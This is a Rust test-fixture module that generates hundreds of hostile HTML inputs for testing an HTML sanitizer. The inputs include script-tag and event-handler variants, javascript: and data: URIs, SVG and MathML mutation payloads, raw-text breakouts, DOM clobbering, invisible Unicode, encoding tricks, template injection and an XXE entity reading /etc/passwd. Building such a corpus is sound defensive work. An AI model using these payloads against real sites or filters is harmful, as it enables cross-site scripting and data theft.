//! Hostile texts of our own: what each class of attack tries, in the variations that filters have missed.
//!
//! They are made, not listed: a class is a shape with holes, a variation fills them. Whatever one of them does it does by
//! asking for `https://tekigo.invalid/…`, by a dialog, or by a script that leaves a mark.

/// One hostile text.
#[derive(Clone, Debug)]
pub(crate) struct Vector {
    pub(crate) class: &'static str,
    pub(crate) text: String,
}

const RUN: &str = "alert(1)";
const URL: &str = "https://tekigo.invalid/x";

/// All of them, always in the same order.
pub(crate) fn all() -> Vec<Vector> {
    let mut all = Vec::new();
    let mut add = |class: &'static str, text: String| all.push(Vector { class, text });
    // the ways to write a name that filters compare and browsers forgive
    let cases = |name: &str| {
        let mixed: String =
            name.chars().enumerate().map(|(at, c)| if at % 2 == 0 { c } else { c.to_ascii_uppercase() }).collect();
        [name.to_owned(), name.to_ascii_uppercase(), mixed]
    };
    for name in cases("script") {
        for (before, after) in
            [("", ""), (" ", ""), ("\n", ""), ("/", ""), ("\u{C}", ""), ("", " "), ("", "\n"), ("", "/")]
        {
            add("script", format!("<{name}{before}>{RUN}</{name}{after}>"));
        }
        add("script", format!("<{name} src=\"{URL}\"></{name}>"));
        add("script", format!("<{name}>//<!--\n{RUN}//--></{name}>"));
        add("script", format!("<scr<{name}>ipt>{RUN}</scr</{name}>ipt>"));
    }
    for event in
        ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onanimationstart", "onbeforetoggle", "onpointerenter"]
    {
        for (tag, attributes) in [
            ("img", "src=\"x\""),
            ("p", ""),
            ("details", "open=\"\""),
            ("input", "autofocus=\"\""),
            ("video", "src=\"x\""),
            ("body", ""),
            ("td", "tabindex=\"0\""),
        ] {
            add("event", format!("<{tag} {attributes} {event}=\"{RUN}\">x</{tag}>"));
        }
        add("event", format!("<img/src=\"x\"/{event}={RUN}>"));
        add("event", format!("\" {event}=\"{RUN}\" x=\""));
        add("event", format!("' {event}='{RUN}' x='"));
    }
    let mut addresses = Vec::new();
    for scheme in
        ["javascript", "vbscript", "data", "livescript", "blob", "filesystem", "view-source", "ws", "intent", "file"]
    {
        let (head, tail) = scheme.split_at(scheme.len() / 2);
        let rest = if scheme == "data" { "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" } else { RUN };
        for address in [
            format!("{scheme}:{rest}"),
            format!("{}:{rest}", scheme.to_ascii_uppercase()),
            format!(" \u{1}{scheme}:{rest}"),
            format!("{head}\t{tail}:{rest}"),
            format!("{head}\n{tail}\r:{rest}"),
            format!("{head}&#9;{tail}&#58;{rest}"),
            format!("&#x{:x};{}:{rest}", u32::from(scheme.as_bytes()[0]), &scheme[1..]),
            format!("{head}\u{200B}{tail}:{rest}"),
            format!("//{scheme}:{rest}"),
            format!("https:{scheme}:{rest}"),
        ] {
            addresses.push(address);
        }
    }
    for address in &addresses {
        add("address", format!("<a href=\"{address}\">x</a>"));
    }
    for address in addresses.iter().step_by(3) {
        add("address", address.clone());
        add("address", format!("<img src=\"{address}\" alt=\"x\"/>"));
    }
    for (tag, attribute) in [
        ("img", "src"),
        ("img", "srcset"),
        ("img", "longdesc"),
        ("img", "usemap"),
        ("area", "href"),
        ("body", "background"),
        ("table", "background"),
        ("td", "background"),
        ("q", "cite"),
        ("link", "href"),
        ("base", "href"),
        ("iframe", "src"),
        ("iframe", "srcdoc"),
        ("frame", "src"),
        ("object", "data"),
        ("embed", "src"),
        ("applet", "code"),
        ("video", "poster"),
        ("audio", "src"),
        ("source", "src"),
        ("track", "src"),
        ("form", "action"),
        ("button", "formaction"),
        ("input", "src"),
        ("meta", "content"),
        ("html", "manifest"),
        ("portal", "src"),
        ("a", "ping"),
        ("bgsound", "src"),
        ("isindex", "action"),
    ] {
        add(
            "request",
            format!("<{tag} {attribute}=\"{URL}\" rel=\"stylesheet\" http-equiv=\"refresh\" type=\"image\">x</{tag}>"),
        );
    }
    for property in
        ["background", "list-style-image", "content", "cursor", "border-image", "behavior", "-moz-binding", "src"]
    {
        add("style", format!("<p style=\"{property}: url({URL})\">x</p>"));
        add("style", format!("<p style=\"{property}: u\\72l('{URL}')\">x</p>"));
        add("style", format!("<style>p {{ {property}: url({URL}) }}</style>"));
    }
    for text in ["@import '", "</style><img src='", "p{x:expression(alert(1))}/*", "*{position:fixed;inset:0}"] {
        add("style", format!("<style>{text}{URL}';</style>"));
        add("style", format!("<p style=\"{text}{URL}\">x</p>"));
    }
    for name in ["svg", "math"] {
        for inner in [
            "<script>alert(1)</script>",
            "<a href=\"javascript:alert(1)\"><text y=\"9\">x</text></a>",
            "<a xlink:href=\"javascript:alert(1)\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">x</a>",
            "<animate attributeName=\"href\" values=\"javascript:alert(1)\"/>",
            "<set attributeName=\"onload\" to=\"alert(1)\"/>",
            "<foreignObject><p onclick=\"alert(1)\">x</p></foreignObject>",
            "<desc><img src=\"x\" onerror=\"alert(1)\"/></desc>",
            "<title><style><img src=\"x\" onerror=\"alert(1)\"></style></title>",
            "<mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<annotation-xml encoding=\"text/html\"><p onclick=\"alert(1)\">x</p></annotation-xml>",
            "<use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/>",
            "<image href=\"https://tekigo.invalid/x\"/>",
            "<p>x</p>",
            "<![CDATA[<p>x]]>",
        ] {
            add("foreign", format!("<{name}>{inner}</{name}>"));
            add("foreign", format!("<{name} xmlns=\"http://www.w3.org/2000/svg\">{inner}</{name}>"));
            add("foreign", format!("<x:{name} xmlns:x=\"http://www.w3.org/2000/svg\">{inner}</x:{name}>"));
        }
    }
    for name in [
        "noscript",
        "xmp",
        "textarea",
        "title",
        "plaintext",
        "noembed",
        "noframes",
        "iframe",
        "template",
        "select",
        "listing",
        "option",
    ] {
        add("raw text", format!("<{name}><p title=\"</{name}><img src=x onerror={RUN}>\">x</p></{name}>"));
        add("raw text", format!("<{name}><!--</{name}><img src=x onerror={RUN}>--></{name}>"));
        add("raw text", format!("</{name}><img src=\"x\" onerror=\"{RUN}\"/>"));
    }
    for text in [
        "<!--><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
        "<?php alert(1) ?>",
        "<?xml-stylesheet href=\"https://tekigo.invalid/x\"?>",
        "<!ELEMENT x>",
        "</p x=\"><img src=x onerror=alert(1)>\">",
        "<!-- x -- y -->",
        "]]><img src=\"x\" onerror=\"alert(1)\"/>",
        "<a title=\"--><img src=x onerror=alert(1)>\">x</a>",
    ] {
        add("comment", text.to_owned());
    }
    for name in [
        "location",
        "document",
        "cookie",
        "body",
        "forms",
        "getElementById",
        "__proto__",
        "tekigo",
        "case-0",
        "n1-x",
        "parentNode",
    ] {
        add("clobber", format!("<p id=\"{name}\">x</p>"));
        add("clobber", format!("<a name=\"{name}\" id=\"{name}\" href=\"#{name}\">x</a>"));
        add("clobber", format!("<form name=\"{name}\"><input name=\"{name}\"/></form>"));
    }
    for inner in [
        "<p>a<p>b</p></p>",
        "<p>a<div>b<p>c</p></div>d</p>",
        "<a href=\"#x\">a<a href=\"#y\">b</a></a>",
        "<b><i>a</b>b</i>",
        "<table>x<b>y</table>",
        "<table><tr>x<td>y</td></tr><p>z</p></table>",
        "<b><table><tr><td></b>x</td></tr></table>",
        "<h1><h2>a</h2></h1>",
        "<ul>x<li>y<li>z</li></li></ul>",
        "<td>x</td>",
        "<tr><td>x</td></tr>",
        "<li>x</li>y",
        "<dt>x</dt>",
        "<table><table><tr><td>x</td></tr></table></table>",
        "<select><p>x</p></select>",
        "<pre>\n\nx</pre>",
        "<pre>\n<b>\nx</b></pre>",
        "<p><b><b><b><b>x</p>y",
        "<a><table><tr><td><a>x</a></td></tr></table></a>",
        "<colgroup>x<col/></colgroup>",
        "<caption>x<table></table></caption>",
        "<nobr>x<nobr>y</nobr></nobr>",
        "<button>x<button>y</button></button>",
        "<form><form>x</form></form>",
        "<table><caption><p>x</p></caption><col/><tbody>y</tbody></table>",
        "<p><table><tr><td><p>x</p></td></tr></table></p>",
        "<dl><dl><dd>x</dd></dl></dl>",
        "<address><p>x<hr/>y</p></address>",
        "<br>x</br>",
        "<img src=\"#x\">y</img>",
        "<image src=\"x\"/>",
        "<frameset><frame/></frameset>",
        "<body><head><p>x</p></head></body>",
    ] {
        add("structure", inner.to_owned());
        add("structure", format!("<div>{inner}<p>後</p></div>"));
        add("structure", format!("<table><tr><td>{inner}</td></tr></table>"));
    }
    for c in [
        '\u{61C}',
        '\u{200E}',
        '\u{200F}',
        '\u{202A}',
        '\u{202D}',
        '\u{202E}',
        '\u{2066}',
        '\u{2069}',
        '\u{200B}',
        '\u{2060}',
        '\u{FEFF}',
        '\u{AD}',
        '\u{180E}',
        '\u{3164}',
        '\u{115F}',
        '\u{E0041}',
        '\u{FFF9}',
        '\u{2028}',
        '\u{85}',
        '\u{7F}',
        '\u{0}',
        '\u{8}',
        '\u{B}',
        '\u{C}',
        '\u{1B}',
        '\u{FFFE}',
        '\u{1FFFF}',
        '\r',
        '\u{FDD0}',
    ] {
        add("hidden", format!("用量{c}10mg"));
        add("hidden", format!("<p title=\"a{c}b\">x{c}y</p>"));
    }
    for text in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&#x3c;script>",
        "&#0060script",
        "&lt",
        "&amp",
        "&NotEqualTilde;",
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&#128;",
        "\\u003cscript\\u003e",
        "+ADw-script+AD4-",
        "%3Cscript%3E",
        "\u{FF1C}script\u{FF1E}",
        "<\u{0}script>alert(1)</script>",
        "\u{2039}script\u{203A}",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<%= alert(1) %>",
        "\"><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "`><img src=x onerror=alert(1)>",
        "<img src='https://tekigo.invalid/?",
        "<a href=\"https://tekigo.invalid/",
        "<",
        ">",
        "\"",
        "'",
        "&",
        "</div></div></body></html><script>alert(1)</script>",
    ] {
        add("text", text.to_owned());
    }
    for depth in [3, 70, 600] {
        for tag in ["b", "div", "table", "a", "p", "li"] {
            add("depth", format!("{}x{}", format!("<{tag}>").repeat(depth), format!("</{tag}>").repeat(depth)));
        }
    }
    all
}
